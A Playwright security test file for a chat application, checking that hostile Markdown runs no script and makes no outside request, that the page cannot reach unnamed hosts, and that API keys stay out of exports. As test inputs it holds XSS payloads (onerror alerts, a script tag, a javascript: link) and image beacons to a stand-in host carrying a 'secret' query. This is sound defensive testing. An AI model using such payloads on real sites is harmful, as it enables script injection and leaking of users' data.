/** What a model, a tool or a file says is hostile: nothing of it runs, and nothing of it fetches. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { hostileMarkdown } from '../../src/ui/markdown/hostile.fixture.ts'
import { startFakeServer, type FakeServer } from '../servers/fake-server.ts'
import {
  answers,
  conversation,
  finished,
  importFile,
  openApp,
  say,
  startWithoutModel,
  openWithServer,
  useModel,
} from '../person.ts'

let server: FakeServer
test.beforeAll(async () => {
  server = await startFakeServer()
})
test.afterAll(() => server.stop())

test('hostile Markdown in every place makes no foreign request and runs no script', async ({
  page,
  context,
  baseURL,
}) => {
  const foreign: string[] = []
  const dialogs: string[] = []
  const opened: string[] = []
  context.on('request', request => {
    if (!/^(data|blob|about):/.test(request.url()) && !request.url().startsWith(baseURL!)) foreign.push(request.url())
  })
  page.on('dialog', dialog => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  context.on('page', other => {
    if (other !== page) opened.push(other.url())
  })
  await openApp(page)
  await startWithoutModel(page)
  // The corpus calls or sets `pwned` in one way or another when something of it runs.
  await page.evaluate(() => {
    Object.assign(window, { pwned: undefined })
  })
  const start = Date.UTC(2026, 2, 2, 9)
  const lines = [
    JSON.stringify({
      type: 'session',
      harness: 'haversack',
      id: 'hostile',
      name: '<img src=x onerror=alert(1)> hostile',
      createdAt: start,
      format: 1,
    }),
  ]
  let parent: string | null = null
  for (const [seq, text] of hostileMarkdown.flatMap(text => [text, text]).entries()) {
    const message =
      seq % 2 === 0
        ? { role: 'user', content: text }
        : { role: 'assistant', content: text, reasoningContent: text, model: text.slice(0, 40), stop: 'stop' }
    lines.push(JSON.stringify({ type: 'message', id: `h${seq}`, parent, seq, timestamp: start + seq * 1_000, message }))
    parent = `h${seq}`
  }
  await importFile(page, lines)
  await page
    .getByRole('navigation', { name: 'Library' })
    .getByRole('link', { name: /hostile/ })
    .click()
  await expect(conversation(page).getByRole('article').first()).toBeVisible()
  // Every message is looked at once: the list draws only what is near.
  for (let top = 0; top < 200; top += 1) {
    const atEnd = await conversation(page).evaluate((log, step) => {
      const scroller =
        [log, ...log.querySelectorAll('*')].find(
          element =>
            element.scrollHeight > element.clientHeight + 10 && getComputedStyle(element).overflowY !== 'visible',
        ) ?? log.parentElement!
      scroller.scrollTop = step * 400
      return scroller.scrollTop + scroller.clientHeight >= scroller.scrollHeight - 2 && step > 0
    }, top)
    if (atEnd) break
  }
  expect(await page.evaluate(() => (window as { pwned?: unknown }).pwned)).toBeUndefined()
  const inside = await conversation(page).evaluate(log => ({
    forbidden: log.querySelectorAll(
      'script, iframe, object, embed, form, base, meta, link, style, svg script, img[src^="http"], video, audio',
    ).length,
    handlers: [...log.querySelectorAll('*')].filter(element =>
      [...element.attributes].some(({ name }) => name.startsWith('on')),
    ).length,
    links: [...log.querySelectorAll('a[href]')]
      .map(link => link.getAttribute('href') ?? '')
      .filter(href => /^\s*(javascript|data|vbscript):/i.test(href)),
  }))
  expect(inside).toEqual({ forbidden: 0, handlers: 0, links: [] })
  expect(dialogs).toEqual([])
  expect(opened).toEqual([])
  expect(foreign).toEqual([])
})

test('a streamed hostile answer acts no more than a stored one', async ({ page }) => {
  await openWithServer(page, server.url, 'say')
  const asked: string[] = []
  page.on('request', request => {
    if (request.url().includes('beacon')) asked.push(request.url())
  })
  await say(
    page,
    '[[say ![x](https://beacon.example/a.png?q=secret) <img src=https://beacon.example/b onerror=alert(1)> <script>window.pwned=1</script> [click](javascript:alert(1))]]',
  )
  await finished(page)
  await expect(answers(page).last()).toContainText('beacon.example')
  expect(await page.evaluate(() => (window as { pwned?: unknown }).pwned)).toBeUndefined()
  expect(asked).toEqual([])
})

test('neither the page nor a worker can reach a host that was not named', async ({ page }) => {
  const hits: string[] = []
  const foreign = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('got it')
  })
  await new Promise<void>(resolve => foreign.listen(0, '127.0.0.1', resolve))
  const address = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`
  try {
    await openApp(page)
    await startWithoutModel(page)
    const fromPage = await page.evaluate(
      url =>
        fetch(url).then(
          () => 'reached',
          () => 'refused',
        ),
      `${address}/page`,
    )
    expect(fromPage).toBe('refused')
    // What the agent itself is asked to fetch waits for a yes.
    await say(page, `/search ${address}/search`)
    expect(hits).toEqual([])
  } finally {
    foreign.closeAllConnections()
    foreign.close()
  }
})

test('keys never leave their place: not in exports, not in what the page gets back', async ({ page }) => {
  const key = 'sk-very-secret-4711'
  await openApp(page)
  await page
    .getByRole('region', { name: 'Choose a model' })
    .getByRole('button', { name: /another server/ })
    .click()
  const settings = page.getByRole('dialog', { name: 'Settings' })
  await settings.getByLabel('Name', { exact: true }).fill('Keyed')
  await settings.getByRole('textbox', { name: /^Address (?!of)/ }).fill(server.url)
  await settings.getByRole('textbox', { name: /^Key/ }).fill(key)
  await settings.getByRole('button', { name: 'Connect and save' }).click()
  await useModel(settings, 'chat')
  await say(page, 'hello')
  await finished(page)
  expect(server.requests.at(-1)!.headers['authorization']).toBe(`Bearer ${key}`)
  const download = page.waitForEvent('download')
  await say(page, '/export all')
  const stream = await (await download).createReadStream()
  let exported = ''
  for await (const part of stream) exported += String(part)
  expect(exported).toContain('hello')
  expect(exported).not.toContain(key)
  await page.reload()
  await page.getByRole('navigation', { name: 'Library' }).getByRole('button', { name: 'Settings' }).click()
  await page.getByRole('tab', { name: 'Servers' }).click()
  await page.getByRole('button', { name: /Edit Keyed/ }).click()
  expect(await page.content()).not.toContain(key)
  for (const input of await page.locator('input').all()) expect(await input.inputValue()).not.toContain(key)
})
